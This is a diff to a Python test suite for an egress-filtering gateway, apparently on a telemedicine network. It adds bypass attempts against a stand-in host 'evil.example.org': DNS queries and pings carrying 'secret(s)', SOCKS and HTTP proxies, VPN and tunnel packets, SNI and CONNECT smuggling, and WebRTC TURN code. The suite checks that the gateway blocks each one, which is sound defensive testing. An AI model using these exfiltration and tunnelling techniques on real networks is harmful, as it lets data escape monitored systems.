@@ -6,13 +6,16 @@
 
 import contextlib
 
-from attempts import (PROXY, curl, encrypted, hello, http2, name_twice, page, program, request, tcp, udp,
-                      websocket, with_names)
-from bypass import EVIL, HANDSHAKE, KERNEL, NAT64, REQUEST, Attempt, try_all, try_direct
+from attempts import (PROXY, connect_then, curl, encrypted, hello, http2, name_twice, page, ping,
+                      program, raw, request, segment, tcp, turn, udp, websocket, with_names)
+from bypass import EVIL, HANDSHAKE, KERNEL, NAT64, PACKETS, REQUEST, Attempt, try_all, try_direct
 from browser import Browser
 from case import call, case
+from consultation import SERVICE, TURN
+from gateway import SERVICES
 from network import GATEWAY_LAN4, GATEWAY_WAN4
 from origins import address4, address6
+from tlsclient import client_hello
 
 E4, E6 = address4(EVIL), address6(EVIL)
 URL = "https://%s/" % EVIL
@@ -20,6 +23,10 @@ EHR, CHAT, FILES = "ehr.example-clinic.jp", "call.telemed.example", "files.telem
 SPLICED, WEB = "media.splice.example", "web.splice.example"
 UNVERIFIED = {"event": "block", "reason": "unverified-destination"}
 DENIED = {"event": "block", "reason": "denied-destination"}
+QUERY = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\3org\0\0\1\0\1"
+QUIC = b"\xc0\0\0\0\1\x08" + b"q" * 1194  # the beginning of an Initial of version 1
+STUN = b"\0\1\0\0\x21\x12\xa4\x42" + b"t" * 12  # the head of a binding request
+SYN, PUSH = 0x02, 0x18  # TCP's flags
 LINK = {"event": "block", "reason": "link-from-consultation"}
 NAMELESS = {"event": "refuse", "reason": "no-sni"}
 
@@ -74,6 +81,15 @@ HTTP = [
             request(None, get(EVIL, URL), port=80)),
     Attempt("two Host fields", request(None, get(EHR, "/", "Host: " + EVIL), port=80)),
     Attempt("no Host, HTTP/1.0", request(None, b"GET / HTTP/1.0\r\n\r\n", port=80)),
+    Attempt("a percent sign in Host", request(None, get("%65vil.example.org"), port=80),
+            record={"event": "refuse", "reason": "bad-request"}),
+    Attempt("HTTP/0.9", request(None, b"GET /\r\n\r\n", port=80), record={"event": "refuse"}),
+    Attempt("CONNECT to a listed site, then another SNI", connect_then(EHR + ":443", client_hello(EVIL)),
+            HANDSHAKE, direct=False),
+    Attempt("CONNECT to one's own site, then the SNI of a spliced service",
+            connect_then(EVIL + ":443", client_hello(SPLICED)), record={"event": "mismatch"}, direct=False),
+    Attempt("CONNECT to a listed site, then HTTP of another",
+            connect_then(EHR + ":443", get(EVIL)), record={"event": "refuse"}, direct=False),
     Attempt("pipelined behind an allowed request",
             request(EHR, get(EHR) + get(EVIL), address4(EHR)), record={"event": "block", "reason": "misdirected"},
             direct=False),
@@ -152,6 +168,62 @@ DNS = [
                               navigate=False), HANDSHAKE, {"event": "block"}),
     Attempt("DNS over TLS", tcp(853), record=KERNEL),
     Attempt("DNS over QUIC", udp(853), record=KERNEL),
+    Attempt("plain DNS elsewhere, UDP", udp(53, QUERY), record=KERNEL),
+    Attempt("plain DNS elsewhere, TCP", tcp(53, len(QUERY).to_bytes(2, "big") + QUERY), record=KERNEL),
+    Attempt("multicast DNS port elsewhere", udp(5353, QUERY), record=KERNEL),
+]
+
+EGRESS = [
+    Attempt("ssh", program("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "x@" + E4), record=KERNEL),
+    Attempt("ssh, IPv6", program("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "x@" + E6),
+            record=KERNEL),
+    Attempt("FTP", curl("ftp://%s/" % EVIL, navigate=False), record=KERNEL),
+    Attempt("mail submission", tcp(587), record=KERNEL),
+    Attempt("a web server on an odd port", curl("https://%s:8443/" % EVIL), record=KERNEL),
+    Attempt("an HTTP proxy on an odd port", curl("--proxy", "http://%s:3128" % E4, URL), record=KERNEL),
+    Attempt("an HTTP proxy on port 80", curl("--proxy", "http://%s:80" % E4, URL)),
+    Attempt("SOCKS on 1080", curl("--proxy", "socks5h://%s" % E4, URL), record=KERNEL),
+    Attempt("SOCKS on 443", curl("--proxy", "socks5h://%s:443" % E4, URL), record={"event": "refuse"}),
+    Attempt("CONNECT to port 22 by our proxy", curl("--proxy", PROXY, "--proxytunnel",
+                                                    "http://%s:22/" % EVIL),
+            record={"reason": "unlisted-port"}, direct=False),
+    Attempt("CONNECT to a literal by our proxy", curl("--proxy", PROXY, "https://%s/" % E4), record=NAMELESS,
+            direct=False),
+    Attempt("CONNECT to port 443, then ssh", connect_then(EVIL + ":443", b"SSH-2.0-x\r\n"),
+            record={"event": "refuse"}, direct=False),
+    Attempt("QUIC", udp(443, QUIC), record=KERNEL),
+    Attempt("UDP to port 80", udp(80), record=KERNEL),
+    Attempt("WireGuard", udp(51820, b"\1\0\0\0" + b"k" * 144), record=KERNEL),
+    Attempt("OpenVPN", udp(1194, b"\x38" + b"s" * 13), record=KERNEL),
+    Attempt("IPsec NAT traversal", udp(4500, b"\0" * 4 + b"i" * 28), record=KERNEL),
+    Attempt("NTP to a foreign clock", udp(123, b"\x23" + b"\0" * 47), record=KERNEL),
+    Attempt("TURN over UDP to an unknown host", turn(), record=KERNEL),
+    Attempt("TURN over TCP to an unknown host", turn("-t"), record=KERNEL),
+    Attempt("TURN over TLS on 443 to an unknown host", turn("-t", "-S", "-p", "443"), record=NAMELESS),
+    Attempt("QUIC in fragments", udp(443, b"q" * 3000), record=KERNEL),
+    Attempt("other UDP in fragments", udp(9999, b"f" * 3000), record=KERNEL),
+    Attempt("a lone TCP segment with data, port 443", segment(443, PUSH, b"secrets")),
+    Attempt("a lone TCP segment with data, another port", segment(22, PUSH, b"secrets")),
+    Attempt("a SYN behind options of IP, port 443", segment(443, SYN, options=True)),
+    Attempt("a SYN behind options of IP, another port", segment(22, SYN, options=True)),
+    Attempt("UDP that begins as STUN does", udp(40000, STUN), record=KERNEL),
+    Attempt("another UDP port of a service's relay", udp(5349, address=address4(TURN)), record=KERNEL,
+            hosts=(TURN,)),
+    Attempt("another TCP port of a service's relay", tcp(5349, address=address4(TURN)), record=KERNEL,
+            hosts=(TURN,)),
+    Attempt("GRE", raw(47, b"\0\0\x08\0" + b"g" * 40), record=KERNEL),
+    Attempt("IPv6 in IPv4", raw(41, b"\x60" + b"\0" * 39), record=KERNEL),
+    Attempt("SCTP", raw(132, b"s" * 32), record=KERNEL),
+    Attempt("ping with a text in it", ping(b"secrets"), record=KERNEL),
+]
+
+
+PEERS = [
+    Attempt("UDP that begins as STUN does", udp(40000, STUN), PACKETS,
+            note="so it must be: what follows in that flow is not looked at"),
+    Attempt("UDP that does not", udp(40000), record=KERNEL),
+    Attempt("STUN to the port of QUIC", udp(443, STUN), record=KERNEL),
+    Attempt("STUN to the port of DNS", udp(53, STUN), record=KERNEL),
 ]
 
 HTTP2 = [
@@ -164,6 +236,8 @@ HTTP2 = [
             note="the stream is refused"),
     Attempt(":path in absolute form", http2(EHR, ":path: " + URL), direct=False),
     Attempt(":scheme http on the TLS connection", http2(EHR, ":scheme: http"), direct=False),
+    Attempt("WebSocket to another :authority",
+            http2(EHR, ":method: CONNECT", ":protocol: websocket", ":authority: " + EVIL), direct=False),
     Attempt("CONNECT", http2(EHR, ":method: CONNECT", ":authority: %s:443" % EVIL), direct=False),
 ]
 
@@ -216,6 +290,10 @@ BROWSER = [
     Attempt("an image on it", page("new Image().src = url;"), REQUEST, note=PART),
     Attempt("WebSocket of the service's page", page("new WebSocket(url.replace('https', 'wss') + 'ws');"), REQUEST,
             note=PART),
+    Attempt("WebRTC: STUN and TURN at an unknown host",
+            page("const p = new RTCPeerConnection({iceServers: [{urls: 'stun:EVIL:3478'}, {urls: "
+                 "'turn:EVIL:3478?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x'); "
+                 "p.setLocalDescription();"), record=KERNEL),
     Attempt("WebRTC: TURN over TLS on 443 at an unknown host",
             page("const p = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{urls: "
                  "'turns:EVIL:443?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x'); "
@@ -227,7 +305,7 @@ BROWSER = [
 ]
 
 
-def table(name, rows, config=None, surroundings=None):
+def table(name, rows, config=None, surroundings=None, services=None):
     """Two cases: with the gateway, while a consultation is on; and without it, where each must succeed."""
     around = surroundings or (lambda lab: contextlib.nullcontext())
 
@@ -242,7 +320,7 @@ def table(name, rows, config=None, surroundings=None):
         with around(lab):
             try_direct(lab, rows)
     direct.__name__ = tried.__name__ + "_direct"
-    case(config, seconds=240)(tried)
+    case(config, services, seconds=240)(tried)
     if any(row.direct for row in rows):
         case(gateway=False, seconds=240)(direct)
 
@@ -259,4 +337,7 @@ table("HTTP", HTTP)
 table("HTTP/2", HTTP2, {"tls": {"http2": True}}, lambda lab: lab.origins.speaking_http2())
 table("hosts and addresses", HOSTS)
 table("DNS", DNS)
+table("what is not the web", EGRESS, services=SERVICES + SERVICE)
+table("calls without a relay", PEERS,
+      services=SERVICES + SERVICE.replace("reviewed", "peer-to-peer = true\n    reviewed"))
 table("pages in Chromium", BROWSER, surroundings=chromium)
